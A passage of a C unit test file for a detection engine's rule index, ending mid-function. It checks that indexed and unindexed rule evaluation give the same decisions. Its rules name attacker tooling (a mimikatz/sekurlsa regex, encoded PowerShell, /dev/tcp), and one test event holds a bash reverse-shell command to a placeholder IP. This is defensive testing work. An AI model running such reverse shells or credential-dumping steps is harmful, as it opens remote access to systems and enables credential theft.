/*
 * test_index.c — the rule index (engine/runtime/index.h): what gets indexed under
 * which keys, what must stay "always run", and above all that decisions
 * with the index equal decisions without it, on hand-picked events, on the
 * language test cases' policies and events, on the default runtime
 * policies, and on seeded random policies and events (tests/fuzz/
 * index_gen.h; tests/fuzz/fuzz_index.c drives the same generators with
 * fuzzer bytes).
 */
#include "unit.h"
#include "prog_builder.h"
#include "tests/fuzz/index_gen.h"
#include "engine/vm/opcodes.h"
#include "engine/vm/vm.h"
#include "engine/vm/verify.h"

#include <dirent.h>
#include <time.h>

/* ---- helpers ---- */

static pal_program *compile_or_fail(const char *src)
{
    pal_program *p = ig_compile_text(src, true);
    CHECK(p != NULL);
    return p;
}

static int rule_index_of(const pal_program *p, const char *name)
{
    for (uint32_t r = 0; r < p->nrules; r++)
        if (!strcmp(pal_program_str(p, p->rules[r].name), name)) return (int)r;
    return -1;
}

/* The index description of the first rule called name. */
static const char *describe(const pal_runtime *rt, const char *name)
{
    static char buf[1024];
    const pal_program *p = pal_runtime_program(rt);
    int r = rule_index_of(p, name);
    if (r < 0) return "(no such rule)";
    pal_index_describe_rule(pal_runtime_index(rt), (uint32_t)r, buf, sizeof buf);
    return buf;
}

static int state_of(const pal_runtime *rt, const char *name)
{
    int r = rule_index_of(pal_runtime_program(rt), name);
    return r < 0 ? -1 : pal_index_rule_state(pal_runtime_index(rt), (uint32_t)r);
}

#define CHECK_HAS(hay, needle) do { \
    const char *h_ = (hay), *n_ = (needle); \
    if (h_ && strstr(h_, n_)) unit_pass++; \
    else { unit_fail++; fprintf(stderr, "%s:%d: \"%s\" does not contain \"%s\"\n", __FILE__, __LINE__, h_ ? h_ : "(null)", n_); } \
} while (0)

/* Every line both ways; returns the number of mismatches. */
static uint64_t diff_lines(const pal_program *p, const char *const *lines, size_t n, ig_diff *out)
{
    ig_diff d;
    if (!ig_diff_init(&d, p)) { CHECK(!"runtime"); ig_diff_free(&d); return 1; }
    for (size_t i = 0; i < n; i++) ig_diff_line(&d, lines[i], strlen(lines[i]), NULL);
    uint64_t m = d.mismatches;
    if (out) *out = d;
    else ig_diff_free(&d);
    return m;
}

/* ---- what is indexed, and under what ---- */

static const char shapes_src[] =
    "package t\n"
    "rule \"names\" { on process when process.name in [\"cmd.exe\", \"PowerShell.exe\"] }\n"
    "rule \"wildcard\" { on dns when dns.question.name in [\"*.google.com\", \"example.org.\"] }\n"
    "rule \"cidr\" { on network when destination.ip in [10.0.0.0/8, 192.168.1.7] }\n"
    "rule \"glob prefix\" { on process when process.executable like 'C:\\Windows\\**' }\n"
    "rule \"glob suffix\" { on process when process.executable like '**\\cmd.exe' }\n"
    "rule \"glob middle\" { on process when process.executable like '*\\System32\\*' }\n"
    "rule \"negated\" { on process when not (process.name in [\"nginx\"]) }\n"
    "rule \"regex\" { on process when process.command_line matches '(?i)-enc\\s' }\n"
    "rule \"regex alternation\" { on process when process.command_line matches '-enc|-e\\s' }\n"
    "rule \"regex caseless\" { on process when process.command_line matches '(?i)\\bmimikatz\\b.*sekurlsa' }\n"
    "rule \"regex after name\" { on process when process.name == \"pwsh\" and process.command_line matches '-enc' }\n"
    "rule \"either\" { on process when process.name == \"a\" or process.parent.name == \"b\" }\n"
    "rule \"loop first\" { on process when any a in process.args: a == \"-enc\" }\n"
    "rule \"loop after\" { on process when process.name == \"x\" and any a in process.args: a == \"-enc\" }\n"
    "rule \"loop before\" { on process when (any a in process.args: a == \"-enc\") and process.name == \"x\" }\n"
    "rule \"contains\" { on process when process.command_line contains \"/dev/tcp/\" }\n"
    "rule \"lowered\" { on file when lower(file.extension) in [\"dll\", \"exe\"] }\n"
    "rule \"ports\" { on network when destination.port in [4444, 6660..6669] }\n"
    "rule \"all ports\" { on network when destination.port in [1..65535] }\n"
    "rule \"direction and name\" { on network when network.direction == \"outbound\" and destination.domain in [\"*.pool.xyz\"] }\n"
    "rule \"every name\" { on dns when dns.question.name in [\"*\"] }\n"
    "rule \"starts\" { on file when file.path startswith \"/etc/\" }\n"
    "rule \"nocase contains\" { on process when process.command_line contains nocase \"MiMi\" }\n"
    "rule \"nocase any\" { on process when process.command_line contains nocase windash(\"-enc\") }\n"
    "rule \"nocase in\" { on process when process.command_line in nocase [\"WHOAMI\"] }\n"
    "rule \"nocase field\" { on process when process.command_line == nocase process.name }\n"
    "runtime \"scoped\" {\n"
    "  scope container.image.name like \"wincontainerapp:*\"\n"
    "  process { allow [\"C:\\\\app\\\\app.exe\"] deny [\"cmd.exe\"] effect prevent default effect alert }\n"
    "}\n"
    "runtime \"unscoped\" {\n"
    "  process { allow [\"/usr/sbin/nginx\"] default effect alert }\n"
    "  dns { deny [\"*.onion.example\"] effect block }\n"
    "}\n"
    "firewall \"fw default\" { allow from any to subnet 10.0.0.0/8 default effect alert }\n"
    "firewall \"fw deny only\" { allow from any to subnet 10.1.0.0/16 deny from any to subnet 10.0.0.0/8 effect block }\n"
    "firewall \"fw allow only\" { allow from any to subnet 10.0.0.0/8 }\n";

static void test_shapes(void)
{
    pal_program *p = compile_or_fail(shapes_src);
    if (!p) return;
    pal_runtime *rt = pal_runtime_new(p);
    CHECK(pal_runtime_set_index(rt, true));
    CHECK(pal_runtime_index(rt) != NULL);

    CHECK_INT(state_of(rt, "names"), PAL_IX_INDEXED);
    CHECK_STR(describe(rt, "names"), "process.name = \"cmd.exe\" | process.name = \"PowerShell.exe\"");
    CHECK_STR(describe(rt, "wildcard"), "dns.question.name suffix \".google.com\" | dns.question.name = \"example.org\"");
    CHECK_STR(describe(rt, "cidr"), "destination.ip in 10.0.0.0/8 | destination.ip in 192.168.1.7/32");
    CHECK_STR(describe(rt, "glob prefix"), "process.executable prefix \"C:\\Windows\\\"");
    CHECK_STR(describe(rt, "glob suffix"), "process.executable suffix \"\\cmd.exe\"");
    CHECK_INT(state_of(rt, "glob middle"), PAL_IX_ALWAYS);        /* no literal end */
    CHECK_INT(state_of(rt, "negated"), PAL_IX_ALWAYS);
    /* a regex is keyed by a literal every match contains */
    CHECK_STR(describe(rt, "regex"), "process.command_line contains \"-enc\"");
    CHECK_INT(state_of(rt, "regex alternation"), PAL_IX_ALWAYS);
    /* caseless: the run stops at k and s, which Unicode pairs with non-ASCII letters */
    CHECK_STR(describe(rt, "regex caseless"), "process.command_line contains \"mimi\"");
    CHECK_STR(describe(rt, "regex after name"), "process.name = \"pwsh\"");
    CHECK_STR(describe(rt, "either"), "process.name = \"a\" | process.parent.name = \"b\"");
    CHECK_INT(state_of(rt, "loop first"), PAL_IX_ALWAYS);         /* a loop's cost is unbounded */
    CHECK_STR(describe(rt, "loop after"), "process.name = \"x\"");
    /* the loop runs before the name is tested: it may spend the budget */
    CHECK_INT(state_of(rt, "loop before"), PAL_IX_ALWAYS);
    CHECK_STR(describe(rt, "contains"), "process.command_line contains \"/dev/tcp/\"");
    CHECK_STR(describe(rt, "lowered"), "file.extension = \"dll\" | file.extension = \"exe\"");
    CHECK_INT(state_of(rt, "ports"), PAL_IX_INDEXED);
    CHECK_HAS(describe(rt, "ports"), "destination.port = 4444 | destination.port = 6660");
    CHECK_HAS(describe(rt, "ports"), "destination.port = 6669");
    CHECK_INT(state_of(rt, "all ports"), PAL_IX_ALWAYS);          /* too wide to key */
    /* the selective atom is kept, the low-cardinality one dropped */
    CHECK_STR(describe(rt, "direction and name"), "destination.domain suffix \".pool.xyz\"");
    CHECK_INT(state_of(rt, "every name"), PAL_IX_ALWAYS);
    CHECK_STR(describe(rt, "starts"), "file.path prefix \"/etc/\"");
    /* nocase keeps the shapes the index keys (its keys are case-folded) */
    CHECK_STR(describe(rt, "nocase contains"), "process.command_line contains \"MiMi\"");
    CHECK_HAS(describe(rt, "nocase any"), "process.command_line contains \"-enc\" | process.command_line contains \"/enc\"");
    CHECK_STR(describe(rt, "nocase in"), "process.command_line = \"WHOAMI\"");
    CHECK_INT(state_of(rt, "nocase field"), PAL_IX_ALWAYS);       /* two fields: nothing to key */
    /* a section with a default fires on anything in scope: keyed by the scope */
    CHECK_STR(describe(rt, "scoped"), "container.image.name prefix \"wincontainerapp:\"");
    CHECK_INT(state_of(rt, "unscoped"), PAL_IX_ALWAYS);           /* its process section */
    {
        /* the dns section of the same block is a rule of its own */
        int n = 0;
        for (uint32_t r = 0; r < p->nrules; r++)
            if (!strcmp(pal_program_str(p, p->rules[r].name), "unscoped") && p->rules[r].kinds == PK_DNS) {
                char buf[200];
                pal_index_describe_rule(pal_runtime_index(rt), r, buf, sizeof buf);
                CHECK_STR(buf, "dns.question.name suffix \".onion.example\"");
                n++;
            }
        CHECK_INT(n, 1);
    }
    CHECK_INT(state_of(rt, "fw default"), PAL_IX_ALWAYS);
    /* the allow entry before the deny needs no key: it never reports */
    CHECK_STR(describe(rt, "fw deny only"), "destination.ip in 10.0.0.0/8");
    CHECK_INT(state_of(rt, "fw allow only"), PAL_IX_NEVER);

    pal_index_stats st = pal_index_get_stats(pal_runtime_index(rt));
    CHECK_INT(st.rules, st.indexed + st.always + st.never);
    if (st.indexed < 18) fprintf(stderr, "indexed %u always %u never %u\n", st.indexed, st.always, st.never);
    CHECK(st.indexed >= 18);
    pal_runtime_free(rt);
    pal_program_free(p);
}

/* ---- decisions on hand-picked events ---- */

static const char *const shape_events[] = {
    /* Windows names fold case and slashes as the VM compares them */
    "{\"event\":{\"category\":[\"process\"]},\"host\":{\"os\":{\"type\":\"windows\"}},\"process\":{\"name\":\"CMD.EXE\",\"executable\":\"c:/windows/system32/CMD.exe\",\"command_line\":\"cmd /c\"}}",
    "{\"event\":{\"category\":[\"process\"]},\"host\":{\"os\":{\"type\":\"linux\"}},\"process\":{\"name\":\"CMD.EXE\",\"executable\":\"/usr/bin/cmd.exe\"}}",
    "{\"event\":{\"category\":[\"process\"]},\"host\":{\"os\":{\"type\":\"windows\"}},\"container\":{\"image\":{\"name\":\"wincontainerapp:v1\"}},\"process\":{\"name\":\"app.exe\",\"executable\":\"C:\\\\app\\\\app.exe\"}}",
    "{\"event\":{\"category\":[\"process\"]},\"host\":{\"os\":{\"type\":\"windows\"}},\"container\":{\"image\":{\"name\":\"wincontainerapp:v1\"}},\"process\":{\"name\":\"other.exe\",\"executable\":\"C:\\\\tools\\\\other.exe\"}}",
    "{\"event\":{\"category\":[\"process\"]},\"process\":{\"name\":\"x\",\"args\":[\"-c\",\"-enc\"],\"parent\":{\"name\":\"b\"}}}",
    "{\"event\":{\"category\":[\"process\"]},\"process\":{\"name\":\"bash\",\"command_line\":\"bash -i >& /dev/tcp/1.2.3.4/80\"}}",
    "{\"event\":{\"category\":[\"process\"]},\"process\":{\"name\":\"pwsh\",\"command_line\":\"pwsh -enc AAAA\"}}",
    /* U+212A KELVIN SIGN and U+017F LONG S match k and s caselessly in PCRE2 */
    "{\"event\":{\"category\":[\"process\"]},\"process\":{\"name\":\"m\",\"command_line\":\"MIMI\u212aATZ \u017fEKURL\u017fA\"}}",
    /* DNS: case, trailing dot, one more label, the bare suffix */
    "{\"event\":{\"category\":[\"network\"]},\"network\":{\"protocol\":\"dns\"},\"dns\":{\"question\":{\"name\":\"Mail.Google.COM.\"}}}",
    "{\"event\":{\"category\":[\"network\"]},\"network\":{\"protocol\":\"dns\"},\"dns\":{\"question\":{\"name\":\"google.com\"}}}",
    "{\"event\":{\"category\":[\"network\"]},\"network\":{\"protocol\":\"dns\"},\"dns\":{\"question\":{\"name\":\"EXAMPLE.org\"}}}",
    "{\"event\":{\"category\":[\"network\"]},\"network\":{\"protocol\":\"dns\"},\"dns\":{\"question\":{\"name\":\"a.b.onion.example\"}}}",
    /* networks */
    "{\"event\":{\"category\":[\"network\"]},\"network\":{\"direction\":\"outbound\",\"transport\":\"tcp\"},\"destination\":{\"ip\":\"10.1.2.3\",\"port\":6667,\"domain\":\"x.pool.xyz\"}}",
    "{\"event\":{\"category\":[\"network\"]},\"network\":{\"direction\":\"outbound\"},\"destination\":{\"ip\":\"192.168.1.7\",\"port\":443}}",
    "{\"event\":{\"category\":[\"network\"]},\"destination\":{\"ip\":\"8.8.8.8\",\"port\":53}}",
    /* files */
    "{\"event\":{\"category\":[\"file\"]},\"file\":{\"path\":\"/etc/passwd\",\"extension\":\"DLL\"}}",
    "{\"event\":{\"category\":[\"file\"]},\"file\":{\"path\":\"/tmp/x\",\"extension\":\"txt\"}}",
};

static void test_decisions(void)
{
    pal_program *p = compile_or_fail(shapes_src);
    if (!p) return;
    size_t n = sizeof shape_events / sizeof *shape_events;
    ig_diff d;
    CHECK_INT(diff_lines(p, shape_events, n, &d), 0);
    CHECK_INT(d.decided, n);
    CHECK(d.matched >= 12);                 /* the events do hit rules */
    CHECK(d.runs_with < d.runs_without);    /* and the index skips rules */

    /* what the index must not lose: the cases above, asserted directly */
    pal_event ev;
    char err[200];
    pal_decision dec;
    pal_arena_reset(&d.arena);
    CHECK_INT(pal_event_decode(shape_events[0], strlen(shape_events[0]), PAL_INPUT_AUTO, NULL, &d.arena, &ev, err, sizeof err), 0);
    CHECK_INT(pal_decide_event(d.with, &ev, &dec), 0);
    char *j = pal_decision_json(d.with, &dec, 1);
    CHECK_HAS(j, "\"rule\":\"names\"");
    CHECK_HAS(j, "\"rule\":\"glob prefix\"");
    CHECK_HAS(j, "\"rule\":\"glob suffix\"");
    free(j);
    pal_arena_reset(&d.arena);
    CHECK_INT(pal_event_decode(shape_events[8], strlen(shape_events[8]), PAL_INPUT_AUTO, NULL, &d.arena, &ev, err, sizeof err), 0);
    CHECK_INT(pal_decide_event(d.with, &ev, &dec), 0);
    j = pal_decision_json(d.with, &dec, 1);
    CHECK_HAS(j, "\"rule\":\"wildcard\"");
    free(j);
    pal_arena_reset(&d.arena);
    CHECK_INT(pal_event_decode(shape_events[7], strlen(shape_events[7]), PAL_INPUT_AUTO, NULL, &d.arena, &ev, err, sizeof err), 0);
    CHECK_INT(pal_decide_event(d.with, &ev, &dec), 0);
    j = pal_decision_json(d.with, &dec, 1);
    CHECK_HAS(j, "\"rule\":\"regex caseless\"");
    free(j);
    ig_diff_free(&d);
    pal_program_free(p);
}

/* Firewall first match and effect combination with most rules skipped. */
static void test_order(void)
{
    static const char src[] =
        "package t\n"
        "firewall \"fw\" {\n"
        "  allow from any to subnet 10.1.0.0/16 tcp\n"
        "  deny from any to subnet 10.0.0.0/8 effect block\n"
        "  deny from any to dns \"*.bad.example\" effect prevent\n"
        "}\n"
        "rule \"a\" { on network when destination.ip in 10.0.0.0/8 effect alert }\n"
        "rule \"b\" { on network when destination.port == 22 effect prevent }\n"
        "rule \"c\" { on network when destination.domain in [\"*.bad.example\"] effect alert }\n";
    static const char *const evs[] = {
        "{\"event\":{\"category\":[\"network\"]},\"network\":{\"transport\":\"tcp\"},\"destination\":{\"ip\":\"10.1.0.5\",\"port\":22}}",
        "{\"event\":{\"category\":[\"network\"]},\"network\":{\"transport\":\"udp\"},\"destination\":{\"ip\":\"10.1.0.5\",\"port\":22}}",
        "{\"event\":{\"category\":[\"network\"]},\"destination\":{\"ip\":\"8.8.8.8\",\"port\":22,\"domain\":\"x.bad.example\"}}",
        "{\"event\":{\"category\":[\"network\"]},\"destination\":{\"ip\":\"10.9.9.9\",\"port\":443,\"domain\":\"X.Bad.Example.\"}}",
    };
    pal_program *p = compile_or_fail(src);
    if (!p) return;
    ig_diff d;
    CHECK_INT(diff_lines(p, evs, 4, &d), 0);
    pal_event ev;
    char err[200];
    pal_decision dec;
    const char *want[] = {
        "{\"line\":1,\"effect\":\"prevent\",\"matches\":[{\"rule\":\"a\",\"effect\":\"alert\"",
        "{\"line\":1,\"effect\":\"block\",\"matches\":[{\"rule\":\"fw\",\"effect\":\"block\"",
        "{\"line\":1,\"effect\":\"prevent\",\"matches\":[{\"rule\":\"fw\",\"effect\":\"prevent\"",
        "{\"line\":1,\"effect\":\"block\",\"matches\":[{\"rule\":\"fw\",\"effect\":\"block\"",
    };
    for (int i = 0; i < 4; i++) {
        pal_arena_reset(&d.arena);
        CHECK_INT(pal_event_decode(evs[i], strlen(evs[i]), PAL_INPUT_AUTO, NULL, &d.arena, &ev, err, sizeof err), 0);
        CHECK_INT(pal_decide_event(d.with, &ev, &dec), 0);
        char *j = pal_decision_json(d.with, &dec, 1);
        CHECK_HAS(j, want[i]);
        free(j);
    }
    ig_diff_free(&d);
    pal_program_free(p);
}

/* An event that hits many rules: the candidates are sorted back into rule
   order (past the insertion-sort size) and merged with the always-run ones. */
static void test_many_hits(void)
{
    static const char *const effects[] = {"alert", "prevent", "block"};
    ig_buf src = {0};
    ig_printf(&src, "package t\n");
    for (int i = 0; i < 150; i++) {
        if (i % 3 == 2)
            ig_printf(&src, "rule \"always %d\" { on process when not (process.name == \"other\") effect %s }\n", i,
                      effects[i % 3]);
        else
            /* keys on two fields, so the hits come out of the probe interleaved */
            ig_printf(&src, "rule \"hit %d\" { on process when process.%s in [\"same\", \"n%d\"] effect %s }\n", 149 - i,
                      i % 2 ? "parent.name" : "name", i, effects[(i / 3) % 3]);
    }
    pal_program *p = compile_or_fail(src.s);
    free(src.s);
    if (!p) return;
    const char *lines[] = {"{\"event\":{\"category\":[\"process\"]},\"process\":{\"name\":\"same\",\"parent\":{\"name\":\"same\"}}}"};
    ig_diff d;
    CHECK_INT(diff_lines(p, lines, 1, &d), 0);
    CHECK_INT(d.runs_with, 150);
    pal_arena_reset(&d.arena);
    pal_event ev;
    char err[200];
    pal_decision dec;
    CHECK_INT(pal_event_decode(lines[0], strlen(lines[0]), PAL_INPUT_AUTO, NULL, &d.arena, &ev, err, sizeof err), 0);
    CHECK_INT(pal_decide_event(d.with, &ev, &dec), 0);
    CHECK_INT(dec.nmatches, 150);
    bool ordered = true;
    for (uint32_t i = 1; i < dec.nmatches; i++) ordered &= dec.matches[i - 1].rule < dec.matches[i].rule;
    CHECK(ordered);
    ig_diff_free(&d);
    pal_program_free(p);
}

/* A `contains` that misses on a very long Windows value still spends the
   budget: the rule must run (and report the error) with the index too. */
static void test_budget_kept(void)
{
    char needle[301];
    memset(needle, 'q', 300);
    needle[300] = 0;
    needle[299] = 'z';
    ig_buf src = {0};
    ig_printf(&src, "package t\nrule \"slow\" { on process when process.executable contains \"%s\" }\n"
                    "rule \"other\" { on process when process.name == \"x\" }\n", needle);
    pal_program *p = compile_or_fail(src.s);
    free(src.s);
    if (!p) return;
    ig_buf ev = {0};
    ig_printf(&ev, "{\"event\":{\"category\":[\"process\"]},\"host\":{\"os\":{\"type\":\"windows\"}},"
                   "\"process\":{\"name\":\"y\",\"executable\":\"");
    for (int i = 0; i < 200000; i++) ig_printf(&ev, "q");
    ig_printf(&ev, "\"}}");
    const char *lines[2] = {ev.s,
                            "{\"event\":{\"category\":[\"process\"]},\"host\":{\"os\":{\"type\":\"windows\"}},\"process\":{\"name\":\"y\",\"executable\":\"C:\\\\short.exe\"}}"};
    ig_diff d;
    CHECK_INT(diff_lines(p, lines, 2, &d), 0);
    CHECK_INT(d.vm_errors, 1);              /* the long line: budget error, both ways */
    ig_diff_free(&d);
    pal_program_free(p);

    /* a loop before the keyed test: a long list spends the budget even
       though the key misses */
    p = compile_or_fail("package t\nrule \"loop\" { on process when (any a in process.args: a == \"zz\") and process.name == \"x\" }\n");
    if (!p) { free(ev.s); return; }
    ev.len = 0;
    ig_printf(&ev, "{\"event\":{\"category\":[\"process\"]},\"process\":{\"name\":\"y\",\"args\":[\"a\"");
    for (int i = 0; i < 60000; i++) ig_printf(&ev, ",\"a\"");
    ig_printf(&ev, "]}}");
    lines[0] = ev.s;
    CHECK_INT(diff_lines(p, lines, 1, &d), 0);
    CHECK_INT(d.vm_errors, 1);
    CHECK_INT(d.runs_with, 1);              /* the short line runs nothing */
    ig_diff_free(&d);
    free(ev.s);
    pal_program_free(p);
}

/* Large rules: hundreds of atoms each, so the greedy shrinking runs long.
   The index must stay exact and its construction bounded. */
static void test_big_rules(void)
{
    ig_buf src = {0};
    ig_printf(&src, "package t\n");
    for (int r = 0; r < 40; r++) {
        ig_printf(&src, "rule \"big %d\" { on process when (", r);
        for (int i = 0; i < 300; i++) ig_printf(&src, "%sprocess.name == \"n%d_%d\"", i ? " or " : "", r, i);
        ig_printf(&src, ") and not (process.parent.name in [\"p%d\"]) }\n", r);
    }
    pal_program *p = compile_or_fail(src.s);
    free(src.s);
    if (!p) return;
    struct timespec t0, t1;
    clock_gettime(CLOCK_MONOTONIC, &t0);
    pal_index *ix = pal_index_build(p);
    clock_gettime(CLOCK_MONOTONIC, &t1);
    CHECK(ix != NULL);
    if (ix) {
        pal_index_stats st = pal_index_get_stats(ix);
        CHECK_INT(st.indexed, 40);
        /* every name is a key; the shrinking may give up before it drops
           the parent test (at most one more key per rule) */
        CHECK(st.keys >= 40 * 300 && st.keys <= 40 * 301);
        printf("test_index: 40 rules of 300 atoms indexed in %.1f ms\n",
               (double)(t1.tv_sec - t0.tv_sec) * 1e3 + (double)(t1.tv_nsec - t0.tv_nsec) / 1e6);
    }
    pal_index_free(ix);
    const char *lines[] = {
        "{\"event\":{\"category\":[\"process\"]},\"process\":{\"name\":\"n7_299\"}}",
        "{\"event\":{\"category\":[\"process\"]},\"process\":{\"name\":\"n7_299\",\"parent\":{\"name\":\"p7\"}}}",
        "{\"event\":{\"category\":[\"process\"]},\"process\":{\"name\":\"n7_300\"}}",
    };
    ig_diff d;
    CHECK_INT(diff_lines(p, lines, 3, &d), 0);
    CHECK_INT(d.matched, 1);
    CHECK(d.runs_with >= 2 && d.runs_with <= 3);
    ig_diff_free(&d);
    pal_program_free(p);
}

/* ---- hand-built programs: what the compiler does not emit ---- */

static void test_hand_built(void)
{
    pb b = pb_new();
    int f_name = pal_schema_find(pal_schema_get(PS_EVENT), "process.name", 12);
    /* 0: only an allow outcome: never reports, never runs */
    pb_rule(&b, "allow only", PR_RULE, PS_EVENT, 0, 2);
    uint32_t o = pb_outcome(&b, PE_ALLOW, SEV_LOW, "allow");
    pb_op(&b, PAL_MK_A(OP_EMIT, o));
    pb_op(&b, OP_HALT);
    pb_end(&b);
    /* 1: CONST == FIELD, the constant first, with a Windows flag on it */
    pb_rule(&b, "const first", PR_RULE, PS_EVENT, 0, 2);
    o = pb_outcome(&b, PE_ALERT, SEV_LOW, "x");
    pb_op(&b, PAL_MK_A(OP_PUSH_CONST, pb_cstr(&b, "C:\\X\\Cmd.exe", PVF_WINDOWS)));
    pb_op(&b, PAL_MK_A(OP_LOAD_FIELD, (uint32_t)f_name));
    pb_op(&b, OP_EQ);
    uint32_t j = pb_op(&b, PAL_MK_SJ(OP_JUMP_IF_FALSE, 0));
    pb_op(&b, PAL_MK_A(OP_EMIT, o));
    pb_patch(&b, j, pb_op(&b, OP_HALT));
    pb_end(&b);
    /* 2: an empty set: never true, so indexed with no key at all */
    pb_rule(&b, "empty set", PR_RULE, PS_EVENT, 0, 2);
    o = pb_outcome(&b, PE_ALERT, SEV_LOW, "x");
    uint32_t m = pb_matcher(&b, PM_STRSET, 0);
    pb_op(&b, PAL_MK_AB(OP_MATCH_FIELD, m, (uint32_t)f_name));
    j = pb_op(&b, PAL_MK_SJ(OP_JUMP_IF_FALSE, 0));
    pb_op(&b, PAL_MK_A(OP_EMIT, o));
    pb_patch(&b, j, pb_op(&b, OP_HALT));
    pb_end(&b);
    /* 3: a jump into the middle of a would-be atom: not an atom */
    pb_rule(&b, "jump inside", PR_RULE, PS_EVENT, 0, 3);
    o = pb_outcome(&b, PE_ALERT, SEV_LOW, "x");
    uint32_t c = pb_cstr(&b, "a", 0);
    pb_op(&b, OP_PUSH_TRUE);
    uint32_t j0 = pb_op(&b, PAL_MK_SJ(OP_JUMP_IF_FALSE, 0));
    pb_op(&b, PAL_MK_A(OP_LOAD_FIELD, (uint32_t)f_name));
    uint32_t mid = pb_op(&b, PAL_MK_A(OP_PUSH_CONST, c));
    pb_op(&b, OP_EQ);
    j = pb_op(&b, PAL_MK_SJ(OP_JUMP_IF_FALSE, 0));
    pb_op(&b, PAL_MK_A(OP_EMIT, o));
    pb_patch(&b, j, pb_op(&b, OP_HALT));
    pb_end(&b);
    (void)j0; (void)mid;
    /* 4: a domain set on a field the decoder leaves as it is (a trailing dot
       stays), as a bundle may hold it */
    int f_host = pal_schema_find(pal_schema_get(PS_EVENT), "host.name", 9);
    pb_rule(&b, "dns on a string", PR_RULE, PS_EVENT, 0, 2);
    o = pb_outcome(&b, PE_ALERT, SEV_LOW, "x");
    static const char *const doms[] = {"*.google.com", "example.org"};
    m = pb_strs(&b, PM_DNSSET, PMF_NOCASE, doms, 2);
    pb_op(&b, PAL_MK_AB(OP_MATCH_FIELD, m, (uint32_t)f_host));
    j = pb_op(&b, PAL_MK_SJ(OP_JUMP_IF_FALSE, 0));
    pb_op(&b, PAL_MK_A(OP_EMIT, o));
    pb_patch(&b, j, pb_op(&b, OP_HALT));
    pb_end(&b);
    pal_program *p = pb_take(&b);
    char err[300];
    int rc = pal_program_prepare(p, err, sizeof err);
    if (rc) fprintf(stderr, "prepare: %s\n", err);
    CHECK_INT(rc, 0);
    if (rc) { pal_program_free(p); return; }
    pal_index *ix = pal_index_build(p);
    CHECK(ix != NULL);
    if (!ix) { pal_program_free(p); return; }
    CHECK_INT(pal_index_rule_state(ix, 0), PAL_IX_NEVER);
    CHECK_INT(pal_index_rule_state(ix, 1), PAL_IX_INDEXED);
    char buf[200];
    pal_index_describe_rule(ix, 1, buf, sizeof buf);
    CHECK_STR(buf, "process.name = \"C:\\X\\Cmd.exe\"");
    CHECK_INT(pal_index_rule_state(ix, 2), PAL_IX_INDEXED);
    pal_index_describe_rule(ix, 2, buf, sizeof buf);
    CHECK_STR(buf, "(no key: never true)");
    CHECK_INT(pal_index_rule_state(ix, 3), PAL_IX_INDEXED);   /* the EQ is unknown; the jump proves nothing */
    pal_index_describe_rule(ix, 4, buf, sizeof buf);
    CHECK_STR(buf, "host.name suffix \".google.com\" | host.name = \"example.org\"");
    pal_index_free(ix);

    /* the constant carries the Windows flag, so a Linux value compares
       folded too: c:/x/cmd.EXE matches, and must stay a candidate */
    const char *lines[] = {
        "{\"event\":{\"category\":[\"process\"]},\"host\":{\"os\":{\"type\":\"linux\"}},\"process\":{\"name\":\"c:/x/cmd.EXE\"}}",
        "{\"event\":{\"category\":[\"process\"]},\"process\":{\"name\":\"a\"}}",
        "{\"event\":{\"category\":[\"process\"]},\"host\":{\"name\":\"Mail.Google.COM.\"},\"process\":{\"name\":\"b\"}}",
        "{\"event\":{\"category\":[\"process\"]},\"host\":{\"name\":\"EXAMPLE.org.\"},\"process\":{\"name\":\"b\"}}",
        "{\"event\":{\"category\":[\"process\"]},\"host\":{\"name\":\"google.com.\"},\"process\":{\"name\":\"b\"}}",
    };
    ig_diff d;
    CHECK_INT(diff_lines(p, lines, 5, &d), 0);
    CHECK_INT(d.matched, 4);
    ig_diff_free(&d);
    pal_program_free(p);
}

/* ---- differentials over real policies ---- */

/* The language cases: every %%POLICY/%%FILE as a repo, every %%EVENTS line. */
static void test_lang_cases(void)
{
    DIR *dir = opendir("tests/lang/cases");
    CHECK(dir != NULL);
    if (!dir) return;
    unsigned cases = 0, compiled = 0;
    uint64_t lines = 0, matched = 0, mismatches = 0;
    struct dirent *de;
    while ((de = readdir(dir))) {
        size_t nl = strlen(de->d_name);
        if (nl < 3 || strcmp(de->d_name + nl - 2, ".t")) continue;
        char path[512];
        snprintf(path, sizeof path, "tests/lang/cases/%s", de->d_name);
        FILE *f = fopen(path, "rb");
        if (!f) continue;
        ig_buf text = {0};
        char chunk[4096];
        size_t got;
        while ((got = fread(chunk, 1, sizeof chunk, f)) > 0) ig_printf(&text, "%.*s", (int)got, chunk);
        fclose(f);
        if (!text.s || !strstr(text.s, "%%EVENTS")) { free(text.s); continue; }
        cases++;
        /* split into sections in place */
        ig_files files = {0};
        char *events = NULL;
        char *s = text.s;
        char *names[8];
        int nnames = 0;
        while ((s = strstr(s, "%%"))) {
            if (s != text.s && s[-1] != '\n') { s += 2; continue; }
            char *eol = strchr(s, '\n');
            if (!eol) break;
            *eol = 0;
            char *body = eol + 1;
            char *kind = s + 2;
            char *arg = strchr(kind, ' ');
            if (arg) { *arg++ = 0; while (*arg == ' ') arg++; }
            /* end the previous section */
            if (s > text.s) s[-1] = 0;
            if ((!strcmp(kind, "POLICY") || !strcmp(kind, "FILE")) && files.n < 8 && nnames < 8) {
                names[nnames] = strdup(arg && *arg ? arg : "policy.pal");
                files.path[files.n] = names[nnames++];
                files.text[files.n++] = body;
            } else if (!strcmp(kind, "EVENTS")) {
                events = body;
            }
            s = body;
        }
        pal_program *p = files.n ? ig_compile(&files, false) : NULL;
        if (p && events) {
            compiled++;
            ig_diff d;
            if (ig_diff_init(&d, p)) {
                for (char *line = events; line && *line;) {
                    char *end = strchr(line, '\n');
                    size_t len = end ? (size_t)(end - line) : strlen(line);
                    if (len) ig_diff_line(&d, line, len, NULL);
                    line = end ? end + 1 : NULL;
                }
                if (d.mismatches) fprintf(stderr, "  in %s\n", path);
                lines += d.decided;
                matched += d.matched;
                mismatches += d.mismatches;
            }
            ig_diff_free(&d);
        }
        pal_program_free(p);
        for (int i = 0; i < nnames; i++) free(names[i]);
        free(text.s);
    }
    closedir(dir);
    printf("test_index: %u language cases with events, %u compiled, %llu decisions, %llu matched\n", cases, compiled,
           (unsigned long long)lines, (unsigned long long)matched);
    CHECK_INT(mismatches, 0);
    CHECK(compiled >= 20);
    CHECK(matched >= 50);
}

/* The default runtime policies against random events. */
static void test_default_policies(void)
{
    pal_compile_opts o = {0};
    o.diag = ig_quiet;
    unsigned ne = 0;
    pal_program *p = pal_compile_dir("policies", &o, &ne, NULL);
    if (!p) {
        /* policies/ belongs to another part of the project and may be mid-edit */
        printf("test_index: policies/ does not compile right now (%u errors); skipped\n", ne);
        return;
    }
    ig_diff d;
